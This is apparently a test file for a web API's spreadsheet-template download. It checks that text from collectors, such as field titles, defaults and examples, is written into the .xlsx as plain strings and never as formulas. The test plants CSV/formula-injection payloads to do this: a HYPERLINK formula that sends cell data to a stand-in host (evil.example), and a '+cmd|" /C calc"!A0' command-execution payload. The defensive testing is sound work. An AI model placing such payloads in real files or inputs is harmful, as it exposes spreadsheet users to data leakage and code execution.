import ExcelJS from 'exceljs';
import { createTestOrganization, createTestUser, openTestApp, sessionHeaders, type TestApp } from '../auth/testing/testUsers';
import { COLUMNS_SHEET, MEASUREMENTS_SHEET } from '../collectors/template';
import { bearer, collectorWithToken, registration } from '../collectors/testing/collectorFixtures';

// GET /collectors/{id}/template (SPEC §7): a real .xlsx whose columns come from the measurement
// settings schema the collector registered. Those texts are the collector's, so a value that
// looks like a formula must stay a plain string in every cell.

let t: TestApp;
let headers: Record<string, string>;
let collectorUuid: string;

const HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"click")';

beforeAll(async () => {
  t = await openTestApp();
  const plant = await createTestOrganization(t.db);
  headers = {
    ...(await sessionHeaders(t.ctx, (await createTestUser(t.db, { privileges: { [plant]: ['READ_COLLECTORS'] } })).uuid)),
    'x-organization-uuid': plant,
  };
  const agent = await collectorWithToken(t.db, plant, '+cmd|" /C calc"!A0');
  collectorUuid = agent.uuid;
  await t.app.inject({
    method: 'POST',
    url: '/api/collector-api/register',
    headers: bearer(agent.token),
    payload: registration({
      MeasurementSettingsSchema: {
        type: 'object',
        required: ['Address'],
        properties: {
          Function: { type: 'string', title: 'Function', enum: ['sine', '@SUM(1+1)'], order: 2 },
          Address: { type: 'string', title: HOSTILE, description: '-2+3', default: '+cmd', examples: ['=1+1'], order: 1 },
          [HOSTILE]: { type: 'number', title: 'Scale', default: 1.5, order: 3 },
        },
      },
    }),
  });
}, 60_000);

afterAll(async () => {
  await t?.close();
}, 30_000);

async function download() {
  const response = await t.app.inject({ method: 'GET', url: `/api/collectors/${collectorUuid}/template`, headers });
  expect(response.statusCode).toBe(200);
  const workbook = new ExcelJS.Workbook();
  // exceljs's typings predate Node's generic Buffer.
  await workbook.xlsx.load(new Uint8Array(response.rawPayload).buffer);
  return { response, workbook };
}

function everyCell(workbook: ExcelJS.Workbook): ExcelJS.Cell[] {
  const cells: ExcelJS.Cell[] = [];
  workbook.eachSheet((sheet) => sheet.eachRow((row) => row.eachCell((cell) => cells.push(cell))));
  return cells;
}

describe('GET /collectors/{id}/template', () => {
  it('is an .xlsx download named after the collector', async () => {
    const { response } = await download();
    expect(response.headers['content-type']).toBe('application/vnd.openxmlformats-officedocument.spreadsheetml.sheet');
    expect(response.headers['content-disposition']).toMatch(/^attachment; filename="/);
  });

  it('has the measurement fields, then the measurement settings in their order as columns', async () => {
    const { workbook } = await download();
    const header = workbook.getWorksheet(MEASUREMENTS_SHEET)?.getRow(1).values;
    const fields = ['Name', 'Description', 'Database', 'Datatype', 'UoM', 'ValueMin', 'ValueMax', 'LimitLo', 'LimitHi', 'Labels', 'Status'];
    expect(header).toEqual([undefined, ...fields, 'Address', 'Function', HOSTILE]);
  });

  it('explains each column: title, type, required, allowed values, default and example', async () => {
    const { workbook } = await download();
    const rows: unknown[][] = [];
    workbook.getWorksheet(COLUMNS_SHEET)?.eachRow((row) => rows.push(Array.isArray(row.values) ? row.values.slice(1) : []));
    expect(rows).toContainEqual(['Address', HOSTILE, '-2+3', 'string', 'yes', 'no', '', '+cmd', '=1+1']);
    expect(rows).toContainEqual(['Function', 'Function', '', 'string', 'no', 'no', 'sine, @SUM(1+1)', '', '']);
    expect(rows).toContainEqual([HOSTILE, 'Scale', '', 'number', 'no', 'no', '', 1.5, '']);
  });

  it('writes no cell as a formula: =HYPERLINK(...), +cmd, -2+3 and @SUM stay strings', async () => {
    const { workbook } = await download();
    const cells = everyCell(workbook);
    expect(cells.length).toBeGreaterThan(20);
    expect(cells.filter((cell) => cell.type === ExcelJS.ValueType.Formula || cell.formula)).toEqual([]);
    const hostile = cells.filter((cell) => typeof cell.value === 'string' && /^[=+\-@]/.test(cell.value));
    expect(hostile.map((cell) => cell.value)).toEqual(expect.arrayContaining([HOSTILE, '+cmd', '-2+3', '=1+1', '+cmd|" /C calc"!A0']));
    for (const cell of hostile) expect(cell.type).toBe(ExcelJS.ValueType.String);
  });

  it('answers 404 for a collector of another organization', async () => {
    const other = await createTestOrganization(t.db);
    const stranger = {
      ...(await sessionHeaders(t.ctx, (await createTestUser(t.db, { privileges: { [other]: ['READ_COLLECTORS'] } })).uuid)),
      'x-organization-uuid': other,
    };
    expect((await t.app.inject({ method: 'GET', url: `/api/collectors/${collectorUuid}/template`, headers: stranger })).statusCode).toBe(404);
  });
});
